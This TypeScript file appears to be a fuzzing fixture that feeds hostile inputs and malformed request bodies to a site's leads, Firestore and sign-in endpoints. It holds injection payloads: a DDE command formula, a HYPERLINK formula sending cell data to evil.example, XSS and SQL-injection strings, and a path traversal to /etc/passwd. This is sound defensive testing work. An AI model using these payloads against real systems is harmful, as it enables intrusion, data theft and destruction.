import { documentsPath as documents } from '../kit/site';
import { type HostileRequest, post } from './hostileRequest';

/** Values that a spreadsheet, a page, a database or a terminal may take for something to run. */
export const hostileWords: readonly string[] = [
  ...[
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ],
  ...[
    '=HYPERLINK("http://evil.example?"&A1)',
    '%0A=1',
    ' =1+1',
    '"=1+1',
    "'=1+1",
    '=DDE("cmd";"/C calc")',
    '\u200b=1+1',
    '"\r\n=1+1,"',
  ],
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</title><svg/onload=alert(1)>',
    'javascript:alert(1)',
    '{{7*7}}',
    '#{7*7}',
  ],
  ...[
    "' OR '1'='1",
    "'; DROP TABLE leads; --",
    '%',
    '_',
    '\\',
    '%27',
    'NULL',
    "x' UNION SELECT 1 --",
    'MATCH *',
    '" OR name:*',
    'NEAR(a b)',
  ],
  ...[
    '\u202egnp.exe',
    '\ud800',
    '\u0000',
    '가'.repeat(2000),
    'a'.repeat(5000),
    '😀'.repeat(600),
    '\x1b[2J',
    '../../etc/passwd',
  ],
];

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/** Bodies for the endpoint of leads, Firestore and sign-in that no page sends. */
export function hostileBodies(): readonly HostileRequest[] {
  const paths = [
    '/api/leads',
    `${documents}:commit`,
    `${documents}:runQuery`,
    `${documents}:batchGet`,
    `${documents}:runAggregationQuery`,
    '/identitytoolkit.googleapis.com/v1/accounts:signInWithPassword',
    '/identitytoolkit.googleapis.com/v1/accounts:lookup',
    '/securetoken.googleapis.com/v1/token',
  ];
  const bodies = [
    ...[
      '',
      ' ',
      'null',
      'true',
      '0',
      '-0',
      '1e999',
      '""',
      '[]',
      '{}',
      '{',
      '[[',
      '"',
      '\u0000',
      '\ufeff{}',
      'undefined',
      '{"a":}',
    ],
    ...[
      '{"__proto__":{"admin":true}}',
      '{"constructor":{"prototype":{"ok":true}}}',
      '{"toString":1,"hasOwnProperty":null}',
      '{"then":1}',
    ],
    ...[
      nested(100),
      nested(5000),
      `{"a":${nested(5000)}}`,
      `{"writes":${nested(3000)}}`,
      `{"writes":[${'{},'.repeat(600)}{}]}`,
    ],
    ...[
      '{"writes":null}',
      '{"writes":[null]}',
      '{"writes":[{"update":{"name":1}}]}',
      '{"writes":[{"delete":"x"}]}',
      '{"documents":"x"}',
      '{"documents":[null,1,{}]}',
    ],
    ...[
      '{"structuredQuery":null}',
      '{"structuredQuery":{"from":[{"collectionId":"press"}],"limit":-1}}',
      '{"structuredQuery":{"limit":"many"}}',
    ],
    ...[
      '{"email":{},"password":[]}',
      '{"email":"a@b","password":"x"}',
      `{"email":"${'a'.repeat(3000)}@b","password":"x"}`,
      '{"idToken":[1]}',
      '{"idToken":"a.b.c"}',
    ],
    ...[
      'grant_type=refresh_token&refresh_token=x',
      'grant_type[]=x&&&===',
      `refresh_token=${'x'.repeat(5000)}&grant_type=refresh_token`,
    ],
    `{"a":"${'x'.repeat(200_000)}"}`,
  ];
  const types = [
    'application/json',
    'text/plain',
    'application/x-www-form-urlencoded',
    'application/json; charset=utf-7',
    'x',
  ];
  return paths.flatMap((path) =>
    bodies.flatMap((body, at) =>
      [types[0], types[at % types.length]].map((type) => ({
        kind: 'a body',
        bytes: post(path, body, { type: type ?? 'x' }),
      })),
    ),
  );
}
